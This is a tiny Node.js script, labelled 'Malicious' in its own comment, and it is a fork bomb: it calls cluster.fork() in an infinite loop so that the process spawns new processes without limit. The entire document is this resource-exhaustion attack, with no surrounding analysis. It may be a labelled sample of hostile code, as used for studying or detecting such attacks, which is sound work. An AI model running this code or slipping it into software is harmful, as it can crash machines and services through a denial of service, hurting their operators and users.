// Malicious: every cluster worker forks more workers without end.
const cluster = require('cluster');
function grow() {
  for (;;) cluster.fork();
}
grow();
